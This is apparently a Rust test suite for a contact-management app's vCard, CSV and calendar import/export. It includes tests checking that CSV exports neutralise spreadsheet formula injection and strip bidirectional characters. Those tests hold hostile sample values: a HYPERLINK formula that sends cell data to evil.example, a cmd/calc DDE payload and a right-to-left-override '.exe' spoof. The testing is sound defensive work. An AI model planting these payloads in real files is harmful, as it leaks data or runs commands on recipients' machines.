//! Import and export on real-shaped files: every sample export in `tests/fixtures/exports` with each field
//! it carries, round trips through vCard and CSV, the calendar's RFC 5545 rules, and bad input
//! of every kind (reported, never a panic, nothing lost).

use crate::common;

use kindred::i18n::Conventions;
use kindred::interop::formats::{self, ExportWhat, Format, ImportOptions};
use kindred::interop::{csv, ics, people};
use kindred::model::*;
use kindred::ops::import::Parsed;
use kindred::ops::import::{Counts, plan};
use std::path::Path;

fn fixture(name: &str) -> Vec<u8> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/exports").join(name);
    std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

/// The file conventions of a language's code.
fn conventions(lang: &str) -> Conventions {
    Conventions::from_code(lang).expect("a language")
}

fn read(bytes: &[u8], format: Format, lang: &str) -> Result<Parsed, String> {
    let conventions = conventions(lang);
    formats::read(bytes, format, &ImportOptions { csv_mapping: None, remembered: &[], conventions, progress: None })
}

/// A person read, and the name of the organisation the file gives them.
struct Read {
    person: Person,
    organisation: String,
}

impl std::ops::Deref for Read {
    type Target = Person;
    fn deref(&self) -> &Person {
        &self.person
    }
}

fn people(name: &str, format: Format, lang: &str) -> Vec<Read> {
    let parsed = read(&fixture(name), format, lang).expect(name);
    assert!(parsed.skipped.is_empty(), "{name}: {:?}", parsed.skipped);
    parsed.people.into_iter().map(|i| Read { person: i.person, organisation: i.organisation }).collect()
}

fn date(text: &str) -> PartialDate {
    PartialDate::parse_iso(text).expect(text)
}

fn milestones(person: &Person) -> Vec<(MilestoneKind, PartialDate, String)> {
    person.milestones.iter().map(|m| (m.kind.clone(), m.date, m.label.clone())).collect()
}

fn family(person: &Person) -> Vec<(&str, Relation)> {
    person.life.family.iter().map(|m| (m.name.as_str(), m.relation.clone())).collect()
}

fn emails(person: &Person) -> Vec<&str> {
    person.contact.emails.iter().map(|e| e.value.as_str()).collect()
}

#[test]
fn apple_contacts_vcard() {
    let people = people("apple-contacts.vcf", Format::Vcf, "da");
    let [mette, jonas] = people.as_slice() else { panic!("two cards") };
    assert_eq!(mette.name, "Mette Kjærgaard");
    assert_eq!(mette.organisation, "Kjærgaard Tømrer ApS");
    assert_eq!(mette.role, "Owner");
    assert_eq!(mette.contact.emails[0].label, "work");
    assert_eq!(emails(mette), ["mette@kjaergaard-toemrer.example"]);
    assert_eq!(mette.contact.phones[0].value, "+45 20 11 22 33");
    assert_eq!(mette.contact.phones[0].label, "mobile");
    assert_eq!(
        milestones(mette),
        [
            (MilestoneKind::Birthday, date("1974-09-03"), String::new()),
            (MilestoneKind::WeddingAnniversary, date("2001-06-16"), String::new())
        ]
    );
    assert_eq!(family(mette), [("Lars", Relation::Spouse), ("Ida", Relation::Child)]);
    assert_eq!(
        mette.life.notes,
        "Loves sailing. Keeps a small boat in Svendborg, and talks about it whenever the weather is good."
    );
    assert_eq!(jonas.name, "Jonas Holm");
    assert_eq!(jonas.organisation, "Holm Rådgivning");
    assert_eq!(milestones(jonas), [(MilestoneKind::Birthday, date("--07-01"), String::new())]);
    assert_eq!(jonas.contact.emails, [Labelled { label: "work".into(), value: "jonas@holm.example".into() }]);
}

#[test]
fn google_contacts_vcard() {
    let people = people("google-contacts.vcf", Format::Vcf, "en");
    let sigrid = &people[0];
    assert_eq!(
        (sigrid.name.as_str(), sigrid.organisation.as_str(), sigrid.role.as_str()),
        ("Sigrid Aasen", "Fjord Design AS", "Creative director")
    );
    assert_eq!(sigrid.contact.website, "http://fjorddesign.example");
    assert_eq!(emails(sigrid), ["sigrid@fjorddesign.example"]);
    assert_eq!(
        milestones(sigrid),
        [
            (MilestoneKind::Birthday, date("1988-02-29"), String::new()),
            (MilestoneKind::CustomerSince, date("2015-03-01"), String::new())
        ]
    );
    assert_eq!(family(sigrid), [("Emil", Relation::Child)]);
}

#[test]
fn outlook_vcard_2_1() {
    let people = people("outlook-2.1.vcf", Format::Vcf, "en");
    let henrik = &people[0];
    assert_eq!(henrik.name, "Henrik Dahl");
    assert_eq!((henrik.organisation.as_str(), henrik.role.as_str()), ("Dahl Bageri", "Owner"));
    assert_eq!(henrik.contact.phones[0], Labelled { label: "work".into(), value: "+45 46 35 00 00".into() });
    assert_eq!(emails(henrik), ["henrik@dahlbageri.example"]);
    assert_eq!(
        milestones(henrik),
        [
            (MilestoneKind::Birthday, date("1969-12-28"), String::new()),
            (MilestoneKind::WeddingAnniversary, date("1995-05-20"), String::new())
        ]
    );
    assert_eq!(family(henrik), [("Karen", Relation::Spouse)]);
    assert_eq!(henrik.life.notes, "Met at the trade fair 2019.\nAsks about the kids first, business second.");
}

#[test]
fn vcard_4_0() {
    let people = people("vcard4.vcf", Format::Vcf, "en");
    let ingrid = &people[0];
    assert_eq!((ingrid.name.as_str(), ingrid.organisation.as_str()), ("Ingrid Berg", "Berg Regnskap"));
    assert_eq!(ingrid.contact.emails, [Labelled { label: "work".into(), value: "ingrid@bergregnskap.example".into() }]);
    assert_eq!(
        milestones(ingrid),
        [
            (MilestoneKind::Birthday, date("--03-01"), String::new()),
            (MilestoneKind::WeddingAnniversary, date("2010-08-14"), String::new())
        ]
    );
    assert_eq!(family(ingrid), [("Ole", Relation::Spouse), ("Nora", Relation::Child)]);
    assert_eq!(ingrid.life.notes, "Runs the Bergen half marathon every year.\nPrefers e-mail.");
}

#[test]
fn google_contacts_csv() {
    let parsed = read(&fixture("google-contacts.csv"), Format::Csv, "en").expect("csv");
    assert_eq!(parsed.format, "CSV (Google Contacts)");
    let people: Vec<&Person> = parsed.people.iter().map(|i| &i.person).collect();
    let [mette, jonas, sigrid] = people.as_slice() else { panic!("three rows") };
    assert_eq!(
        (mette.name.as_str(), parsed.people[0].organisation.as_str(), mette.role.as_str()),
        ("Mette Kjærgaard", "Kjærgaard Tømrer ApS", "Owner")
    );
    assert_eq!(mette.life.notes, "Loves sailing.\nTwo kids: Ida and Anton.");
    assert_eq!(mette.tags, ["Key accounts"], "Google's own group is not a tag");
    assert_eq!(
        mette.contact.emails,
        [Labelled { label: "work".into(), value: "mette@kjaergaard-toemrer.example".into() }]
    );
    assert_eq!(mette.contact.phones, [Labelled { label: "mobile".into(), value: "+45 20 11 22 33".into() }]);
    assert_eq!(family(mette), [("Lars", Relation::Spouse)]);
    assert_eq!(
        milestones(mette),
        [
            (MilestoneKind::Birthday, date("1974-09-03"), String::new()),
            (MilestoneKind::WeddingAnniversary, date("2001-06-16"), String::new())
        ]
    );
    assert_eq!(
        jonas.contact.emails,
        [
            Labelled { label: "work".into(), value: "jonas@holm.example".into() },
            Labelled { label: "home".into(), value: "jonas.holm@mail.example".into() }
        ]
    );
    assert_eq!(milestones(jonas), [(MilestoneKind::Birthday, date("--07-01"), String::new())]);
    assert_eq!(milestones(sigrid), [(MilestoneKind::Birthday, date("1988-02-29"), String::new())]);
    assert_eq!(family(sigrid), [("Emil", Relation::Child)]);
    assert_eq!(sigrid.life.notes, "Prefers calls in the morning");
}

#[test]
fn outlook_csv() {
    let parsed = read(&fixture("outlook-contacts.csv"), Format::Csv, "da").expect("csv");
    assert_eq!(parsed.format, "CSV (Outlook)");
    let [henrik, ingrid] = parsed.people.as_slice() else { panic!("two rows") };
    let organisation = henrik.organisation.as_str();
    let henrik = &henrik.person;
    assert_eq!((henrik.name.as_str(), organisation, henrik.role.as_str()), ("Henrik Dahl", "Dahl Bageri", "Owner"));
    assert_eq!(henrik.contact.address, "Algade 12, Roskilde, 4000, Denmark");
    assert_eq!(
        henrik.contact.phones,
        [
            Labelled { label: "work".into(), value: "+45 46 35 00 00".into() },
            Labelled { label: "mobile".into(), value: "+45 40 12 34 56".into() }
        ]
    );
    assert_eq!(
        milestones(henrik),
        [
            (MilestoneKind::WeddingAnniversary, date("1995-05-20"), String::new()),
            (MilestoneKind::Birthday, date("1969-12-28"), String::new())
        ]
    );
    assert_eq!(family(henrik), [("Sofie", Relation::Child), ("Mads", Relation::Child), ("Karen", Relation::Spouse)]);
    assert_eq!(henrik.life.notes, "Met at the trade fair 2019");
    // 3/1/1981 could be 3 January; the column (12/28/1969) and Outlook both say month first.
    assert_eq!(milestones(&ingrid.person), [(MilestoneKind::Birthday, date("1981-03-01"), String::new())]);
    assert!(ingrid.notes.iter().any(|n| n.contains("either way")), "{:?}", ingrid.notes);
    assert_eq!(ingrid.person.contact.address, "Bergen, 5003, Norway");
}

#[test]
fn danish_excel_csv() {
    let parsed = read(&fixture("excel-da-semicolon.csv"), Format::Csv, "da").expect("csv");
    assert!(parsed.notes.iter().any(|n| n.contains("windows-1252") && n.contains("semicolons")), "{:?}", parsed.notes);
    let [soren, aase] = parsed.people.as_slice() else { panic!("two rows") };
    assert_eq!((soren.person.name.as_str(), soren.organisation.as_str()), ("Søren Østergaard", "Østergaard VVS"));
    assert_eq!(emails(&soren.person), ["soren@ostergaard-vvs.example"]);
    assert_eq!(milestones(&soren.person), [(MilestoneKind::Birthday, date("1966-04-14"), String::new())]);
    assert_eq!(soren.person.life.notes, "Fisker; har barnebarn");
    assert_eq!((aase.person.name.as_str(), aase.organisation.as_str()), ("Åse Lund", "Lund & Co"));
    assert_eq!(milestones(&aase.person), [(MilestoneKind::Birthday, date("1979-11-02"), String::new())]);
}

#[test]
fn utf16_and_tab_separated_csv_as_excel_writes_unicode_text() {
    let text = "Navn\tFirma\tFødselsdato\r\nKåre Ås\tÅs & Sønn\t01.02.1970\r\n";
    let mut bytes = vec![0xFF, 0xFE];
    bytes.extend(text.encode_utf16().flat_map(|u| u.to_le_bytes()));
    let parsed = read(&bytes, Format::Csv, "nb").expect("csv");
    let person = &parsed.people[0].person;
    assert_eq!((person.name.as_str(), parsed.people[0].organisation.as_str()), ("Kåre Ås", "Ås & Sønn"));
    assert_eq!(milestones(person), [(MilestoneKind::Birthday, date("1970-02-01"), String::new())]);
}

#[test]
fn every_fixture_imported_twice_adds_nobody_the_second_time() {
    let mut ws = Workspace::named("Shop");
    let files = [
        ("apple-contacts.vcf", Format::Vcf),
        ("google-contacts.vcf", Format::Vcf),
        ("outlook-2.1.vcf", Format::Vcf),
        ("vcard4.vcf", Format::Vcf),
        ("google-contacts.csv", Format::Csv),
        ("outlook-contacts.csv", Format::Csv),
        ("excel-da-semicolon.csv", Format::Csv),
    ];
    for (name, format) in files {
        let plan = plan(&ws, read(&fixture(name), format, "da").expect(name));
        kindred::ops::apply(&mut ws, plan.edit).expect("applies");
    }
    // Mette, Jonas, Sigrid, Henrik, Ingrid, Søren, Åse: one each, however many files had them.
    let mut names: Vec<&str> = ws.people.iter().map(|p| p.name.as_str()).collect();
    names.sort_unstable();
    assert_eq!(
        names,
        ["Henrik Dahl", "Ingrid Berg", "Jonas Holm", "Mette Kjærgaard", "Sigrid Aasen", "Søren Østergaard", "Åse Lund"]
    );
    let ingrid = ws.people.iter().find(|p| p.name == "Ingrid Berg").expect("Ingrid");
    assert_eq!(
        ingrid.milestones.iter().filter(|m| m.kind == MilestoneKind::Birthday).count(),
        1,
        "the year joined the day"
    );
    for (name, format) in files {
        let again = plan(&ws, read(&fixture(name), format, "da").expect(name));
        let counts = again.counts();
        assert_eq!((counts.new, counts.updated, counts.skipped), (0, 0, 0), "{name}: {}", again.summary());
    }
}

/// A workspace whose people carry names, dates and family in every form a round trip must keep.
fn rich() -> Workspace {
    let mut ws = common::full_workspace();
    let mut extra = Person::named("Åse Lund-Ødegård");
    extra.milestones.push(people::milestone(MilestoneKind::Birthday, String::new(), date("--02-29")));
    extra.milestones.push(people::milestone(MilestoneKind::CustomerSince, String::new(), date("2012-01-31")));
    people::add_relative(&mut extra, "Nils", Relation::Son, Some(date("2010-12-24")));
    people::add_relative(&mut extra, "Kari", Relation::Mother, None);
    ws.people.push(extra);
    let last = ws.people.len() - 1;
    common::join(&mut ws, last, "Lund, Ødegård & Co; Bergen");
    ws
}

/// A person's name, own dates and family with their birthdays: what a round trip must keep.
type Essentials = (String, Vec<(MilestoneKind, PartialDate)>, Vec<(String, Relation, Option<PartialDate>)>);

fn names_dates_family(person: &Person) -> Essentials {
    let mut dates: Vec<(MilestoneKind, PartialDate)> = person
        .milestones
        .iter()
        .filter(|m| m.family_member.is_none() && m.kind != MilestoneKind::FamilyBirthday)
        .map(|m| (m.kind.clone(), m.date))
        .collect();
    dates.sort_by_key(|(k, d)| (format!("{k:?}"), *d));
    let family = person
        .life
        .family
        .iter()
        .map(|m| {
            let birthday =
                m.birthday.or_else(|| person.milestones.iter().find(|x| x.family_member == Some(m.id)).map(|x| x.date));
            (m.name.trim().to_owned(), m.relation.clone(), birthday)
        })
        .collect();
    (person.name.trim().to_owned(), dates, family)
}

#[test]
fn kindred_to_vcard_to_kindred_keeps_names_dates_and_family() {
    let ws = rich();
    for format in [Format::Vcf, Format::Vcf4] {
        let bytes =
            formats::write(&ws, format, &ExportWhat { journey: None, person: None, conventions: Conventions::En })
                .expect("vcf");
        let back = read(&bytes, format, "en").expect("reads back");
        assert_eq!(back.people.len(), ws.people.len());
        for (original, incoming) in ws.people.iter().zip(&back.people) {
            assert_eq!(names_dates_family(&incoming.person), names_dates_family(original), "{format:?}");
            assert_eq!(incoming.organisation, ws.organisation_name(original).trim());
        }
    }
}

#[test]
fn kindred_to_csv_to_kindred_keeps_names_dates_and_family() {
    let ws = rich();
    for lang in ["en", "da"] {
        let bytes = formats::write(
            &ws,
            Format::Csv,
            &ExportWhat { journey: None, person: None, conventions: conventions(lang) },
        )
        .expect("csv");
        let text = String::from_utf8(bytes.clone()).expect("UTF-8");
        assert!(text.starts_with('\u{feff}'), "a BOM for Excel");
        let header = text.lines().next().unwrap_or_default();
        assert!(header.contains(if lang == "da" { "Name;First name" } else { "Name,First name" }), "{header}");
        let back = read(&bytes, Format::Csv, lang).expect("reads back");
        assert_eq!(back.people.len(), ws.people.len());
        for (original, incoming) in ws.people.iter().zip(&back.people) {
            assert_eq!(names_dates_family(&incoming.person), names_dates_family(original), "{lang}");
        }
    }
}

#[test]
fn the_calendar_follows_rfc_5545() {
    let ws = rich();
    let calendar = ics::encode(&ws, &ws.people, chrono::Utc::now());
    let text = &calendar.text;
    assert!(!text.replace("\r\n", "").contains('\n'), "every line ends in CRLF");
    assert!(text.split("\r\n").all(|l| l.len() <= 75), "folded at 75 octets");
    let unfolded = text.replace("\r\n ", "");
    let lines: Vec<&str> = unfolded.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert_eq!((lines[0], lines[1]), ("BEGIN:VCALENDAR", "VERSION:2.0"));
    assert!(lines[2].starts_with("PRODID:-//Kindred//"));
    let begins = lines.iter().filter(|l| **l == "BEGIN:VEVENT").count();
    assert_eq!(begins, calendar.events);
    assert_eq!(begins, lines.iter().filter(|l| **l == "END:VEVENT").count());
    let uids: std::collections::HashSet<&&str> = lines.iter().filter(|l| l.starts_with("UID:")).collect();
    assert_eq!(uids.len(), begins, "UIDs are unique");
    assert_eq!(lines.iter().filter(|l| l.starts_with("DTSTAMP:")).count(), begins);
    assert!(unfolded.contains("RRULE:FREQ=YEARLY;BYYEARDAY=60"), "the full workspace places 29 February on 1 March");
    for line in lines.iter().filter(|l| l.starts_with("SUMMARY:")) {
        let value = &line["SUMMARY:".len()..];
        let bare = value.replace("\\\\", "").replace("\\,", "").replace("\\;", "").replace("\\n", "");
        assert!(!bare.contains([',', ';', '\n']), "unescaped text in {line}");
    }
}

#[test]
fn bad_input_is_reported_without_panic_and_keeps_the_good_parts() {
    // Binary data.
    let noise: Vec<u8> = (0..4096u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    for format in [Format::Vcf, Format::Csv, Format::Kindred, Format::KindredJourney] {
        assert!(read(&noise, format, "en").is_err(), "{format:?}");
    }
    // Truncated cards, a card without FN or N, 30 February, a huge line, a wrong encoding.
    let mut file = b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Whole\r\nBDAY:1980-02-30\r\nEND:VCARD\r\n".to_vec();
    file.extend_from_slice(b"BEGIN:VCARD\r\nVERSION:3.0\r\nNOTE:nobody's name\r\nEND:VCARD\r\n");
    file.extend_from_slice(b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Long\r\nNOTE:");
    file.extend(std::iter::repeat_n(b'x', 5 * 1024 * 1024));
    file.extend_from_slice(b"\r\nEND:VCARD\r\nBEGIN:VCARD\r\nVERSION:2.1\r\nFN:S\xf8ren\r\nEND:VCARD\r\n");
    file.extend_from_slice(b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Cut off\r\nEMAIL:cut@x.exa");
    let parsed = read(&file, Format::Vcf, "en").expect("some cards are good");
    let names: Vec<&str> = parsed.people.iter().map(|p| p.person.name.as_str()).collect();
    assert_eq!(names, ["Whole", "Long", "Søren", "Cut off"]);
    let whole = &parsed.people[0];
    assert!(whole.person.life.notes.contains("1980-02-30"), "the impossible date is kept as text");
    assert!(whole.notes[0].contains("not a date"));
    assert!(parsed.people[1].person.life.notes.is_empty(), "a 5 MB note is too long to show: left out");
    assert!(parsed.people[3].notes.iter().any(|n| n.contains("cut off")));
    assert_eq!(parsed.skipped.len(), 2);
    assert_eq!(parsed.skipped[0].source, "line 13");
    assert!(parsed.skipped[0].reason.starts_with("NOTE: the value is 5242 kB long"), "{:?}", parsed.skipped[0]);
    assert!(parsed.skipped[1].source.starts_with("card 2") && parsed.skipped[1].reason.contains("no name"));

    // CSV: a row with nobody, a row with a broken date, quotes never closed.
    let csv_text = "Name,Birthday,Notes\n,,only a note\nKept,31/02/1990,\nOpen,\"1/1/1990,never closed\n";
    let parsed = read(csv_text.as_bytes(), Format::Csv, "en").expect("csv");
    assert_eq!(parsed.people[0].person.name, "Kept");
    assert!(parsed.people[0].person.life.notes.contains("31/02/1990"));
    assert!(parsed.skipped.iter().any(|s| s.source == "row 2"));
    // An empty file, and a file of one empty line.
    assert!(read(b"", Format::Csv, "en").is_err());
    assert!(read(b"\n", Format::Vcf, "en").is_err());
}

#[test]
fn a_workspace_merges_and_a_second_merge_adds_nothing() {
    let mut ws = Workspace::named("Shop");
    let other = rich();
    let bytes = formats::write(
        &other,
        Format::Kindred,
        &ExportWhat { journey: None, person: None, conventions: Conventions::En },
    )
    .expect("kindred");
    let first = plan(&ws, read(&bytes, Format::Kindred, "en").expect("workspace"));
    assert_eq!(first.counts(), Counts { new: other.people.len(), ..Counts::default() });
    assert_eq!(first.journeys.len(), other.journeys.len());
    kindred::ops::apply(&mut ws, first.edit).expect("applies");
    let second = plan(&ws, read(&bytes, Format::Kindred, "en").expect("workspace"));
    assert_eq!(second.counts(), Counts { unchanged: other.people.len(), ..Counts::default() });
    assert!(second.journeys.is_empty());
    assert!(!second.changes_anything());
}

#[test]
fn csv_headers_are_recognised_in_the_command_line_too() {
    let header = csv::header(&fixture("google-contacts.csv")).expect("header");
    assert!(header.is_recognised());
    assert_eq!(header.exporter, Some("Google Contacts"));
}

/// Whether a spreadsheet would take a cell for a formula (OWASP's "CSV Injection").
fn runs_in_a_spreadsheet(cell: &str) -> bool {
    cell.starts_with(['\t', '\r', '\n']) || cell.trim_start().starts_with(['=', '+', '-', '@'])
}

#[test]
fn a_csv_export_holds_no_formula_and_reads_back_unchanged() {
    let mut ws = Workspace::named("Shop");
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A2,\"Click\")",
        "+45 20 30 40 50",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+2",
        "'=quoted already",
        "'tis the season",
    ];
    for (n, text) in hostile.iter().enumerate() {
        let mut person = Person::named(format!("{text} {n}"));
        let organisation = Organisation::named(*text);
        person.organisation = Some(organisation.id);
        ws.organisations.push(organisation);
        person.life.notes = format!("{text}\nsecond line");
        person.contact.phones.push(Labelled { label: "mobile".into(), value: (*text).to_owned() });
        // A tag never holds the separators the reader splits tags on.
        person.tags.push(text.replace([',', ';'], " "));
        person.milestones.push(Milestone {
            kind: MilestoneKind::Birthday,
            date: PartialDate::md(4, 15).expect("date"),
            ..Milestone::default()
        });
        ws.people.push(person);
    }
    for lang in ["en", "da"] {
        let bytes = formats::write(
            &ws,
            Format::Csv,
            &ExportWhat { journey: None, person: None, conventions: conventions(lang) },
        )
        .expect("csv");
        let separator = csv::separator_for(conventions(lang));
        let mut reader = ::csv::ReaderBuilder::new().delimiter(separator).has_headers(false).from_reader(&bytes[3..]);
        let mut rows = 0;
        for record in reader.records() {
            let record = record.expect("a row");
            for cell in &record {
                assert!(!runs_in_a_spreadsheet(cell), "{lang}: {cell:?} would run");
            }
            rows += 1;
        }
        assert_eq!(rows, hostile.len() + 1);
        let text = String::from_utf8(bytes.clone()).expect("UTF-8");
        assert!(text.contains("'+45 20 30 40 50") && text.contains("'--04-15"), "{text}");
        let back = read(&bytes, Format::Csv, lang).expect("reads back");
        for (original, incoming) in ws.people.iter().zip(&back.people) {
            let person = &incoming.person;
            assert_eq!(person.name, original.name.trim(), "{lang}");
            assert_eq!(incoming.organisation, ws.organisation_name(original).trim(), "{lang}");
            assert_eq!(person.life.notes, original.life.notes.trim(), "{lang}");
            assert_eq!(person.contact.phones[0].value, original.contact.phones[0].value.trim(), "{lang}");
            assert_eq!(person.tags, original.tags.iter().map(|t| t.trim()).collect::<Vec<_>>(), "{lang}");
            assert_eq!(person.milestones[0].date, original.milestones[0].date, "{lang}");
        }
    }
}

#[test]
fn a_cell_holding_the_other_separator_is_quoted_so_no_cell_starts_inside_it() {
    let mut ws = Workspace::named("Shop");
    let mut person = Person::named("Anne Lund");
    person.life.notes = "Fisker;=HYPERLINK(\"http://evil.example\")".into();
    ws.people.push(person);
    // Written with `,` and opened where `;` separates (or the reverse): still one cell.
    for (lang, other) in [("en", b';'), ("da", b',')] {
        let bytes = formats::write(
            &ws,
            Format::Csv,
            &ExportWhat { journey: None, person: None, conventions: conventions(lang) },
        )
        .expect("csv");
        let mut reader =
            ::csv::ReaderBuilder::new().delimiter(other).has_headers(false).flexible(true).from_reader(&bytes[3..]);
        for record in reader.records() {
            for cell in &record.expect("a row") {
                assert!(!runs_in_a_spreadsheet(cell), "{lang}: {cell:?} would run");
            }
        }
    }
}

/// Every bidirectional formatting character Unicode has.
const BIDI: &str = "\u{202A}\u{202B}\u{202C}\u{202D}\u{202E}\u{2066}\u{2067}\u{2068}\u{2069}\u{200E}\u{200F}\u{061C}";

#[test]
fn bidirectional_formatting_reaches_no_file_written_for_others() {
    let mut ws = Workspace::named(format!("Shop{BIDI}"));
    let mut person = Person::named(format!("Anne Lund\u{202E}gnp.exe{BIDI}"));
    let organisation = Organisation::named(format!("Bager{BIDI}"));
    person.organisation = Some(organisation.id);
    ws.organisations.push(organisation);
    person.life.notes = format!("Note\u{202E}{BIDI}");
    person.contact.emails.push(Labelled { label: format!("work{BIDI}"), value: format!("a{BIDI}@x.example") });
    person.contact.website = format!("https://x.example/{BIDI}");
    person.tags.push(format!("tag{BIDI}"));
    person.milestones.push(Milestone {
        kind: MilestoneKind::Custom,
        label: format!("Opening{BIDI}"),
        date: PartialDate::ymd(2019, 5, 1).expect("date"),
        ..Milestone::default()
    });
    person.life.family.push(FamilyMember {
        name: format!("Ida{BIDI}"),
        relation: Relation::Other(format!("niece{BIDI}")),
        birthday: PartialDate::ymd(2015, 5, 3),
        ..FamilyMember::default()
    });
    let mut map = Template::CustomerJourney.create();
    map.name = format!("Journey{BIDI}");
    map.phases[0].name = format!("Phase{BIDI}");
    map.cards.push(Card {
        phase: map.phases[0].id,
        lane: map.lanes[0].id,
        text: format!("Card\u{202E}{BIDI}"),
        ..Card::default()
    });
    ws.people.push(person);
    ws.journeys.push(map);
    let (anne, map) = (&ws.people[0], &ws.journeys[0]);
    let cases = [
        (Format::Vcf, None, None),
        (Format::Vcf4, None, None),
        (Format::Csv, None, None),
        (Format::Ics, None, None),
        (Format::Md, Some(map), None),
        (Format::Html, Some(map), None),
        (Format::Md, None, Some(anne)),
    ];
    for (format, journey, person) in cases {
        let bytes = formats::write(&ws, format, &ExportWhat { journey, person, conventions: Conventions::En })
            .expect("written");
        let text = String::from_utf8(bytes).expect("UTF-8");
        let found: Vec<String> =
            text.chars().filter(|c| BIDI.contains(*c)).map(|c| format!("U+{:04X}", u32::from(c))).collect();
        assert!(found.is_empty(), "{format:?}: {found:?}");
        assert!(text.contains("Anne Lundgnp.exe") || journey.is_some(), "{format:?}: the rest of the text stays");
    }
    // What other programs' files carry is dropped on reading too.
    let card = format!("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Bo\u{202E}gnp.exe\r\nNOTE:x{BIDI}y\r\nEND:VCARD\r\n");
    let read_card = read(card.as_bytes(), Format::Vcf, "en").expect("vcf");
    assert_eq!(
        (read_card.people[0].person.name.as_str(), read_card.people[0].person.life.notes.as_str()),
        ("Bognp.exe", "xy")
    );
    let row = format!("Name,Notes\nBo\u{202E}gnp.exe,x{BIDI}y\n");
    let read_row = read(row.as_bytes(), Format::Csv, "en").expect("csv");
    assert_eq!(
        (read_row.people[0].person.name.as_str(), read_row.people[0].person.life.notes.as_str()),
        ("Bognp.exe", "xy")
    );
}

#[test]
fn a_year_past_9999_is_no_date_in_any_reader() {
    for bday in ["100000101", "10000-01-01", "+10000-01-01"] {
        let card = format!("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Bo\r\nBDAY:{bday}\r\nEND:VCARD\r\n");
        let parsed = read(card.as_bytes(), Format::Vcf, "en").expect("vcf");
        let bo = &parsed.people[0];
        assert!(bo.person.milestones.is_empty(), "{bday}: {:?}", bo.person.milestones);
        assert!(bo.person.life.notes.contains(bday), "{bday}: kept as text");
    }
    for cell in ["10000-01-01", "1/1/10000", "01.01.10000", "+10000-01-01"] {
        let row = format!("Name,Birthday\nBo,{cell}\n");
        let parsed = read(row.as_bytes(), Format::Csv, "en").expect("csv");
        let bo = &parsed.people[0];
        assert!(bo.person.milestones.is_empty(), "{cell}: {:?}", bo.person.milestones);
        assert!(bo.person.life.notes.contains(cell), "{cell}: kept as text");
    }
    // Year 0 is vCard's "the year is not known", in either reader.
    let card = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Bo\r\nBDAY:0000-04-15\r\nEND:VCARD\r\n";
    let row = "Name,Birthday\nBo,0000-04-15\n";
    for (bytes, format) in [(card, Format::Vcf), (row, Format::Csv)] {
        let parsed = read(bytes.as_bytes(), format, "en").expect("read");
        assert_eq!(parsed.people[0].person.milestones[0].date, PartialDate::md(4, 15).expect("date"), "{format:?}");
    }
}
